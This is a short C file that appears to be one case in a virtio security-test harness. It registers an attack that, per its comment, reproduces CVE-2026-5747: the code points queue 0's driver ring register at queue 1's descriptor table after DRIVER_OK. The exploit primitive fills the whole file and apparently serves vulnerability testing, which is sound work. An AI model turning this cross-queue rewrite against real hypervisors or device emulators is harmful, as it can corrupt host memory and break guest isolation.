/*
 * CVE-2026-5747, cross-queue rewrite: after DRIVER_OK, queue 0's available ring is pointed at
 * queue 1's descriptor table.
 */
#include "attack.h"

static void rewrite(void)
{
    vio_write(DEV, VIRTIO_MMIO_QUEUE_SEL, 0);
    write64(VIRTIO_MMIO_QUEUE_DRIVER_LOW, Q1_DESC);
}

int main(void)
{
    return register_attack("queue-driver-overlap", rewrite);
}
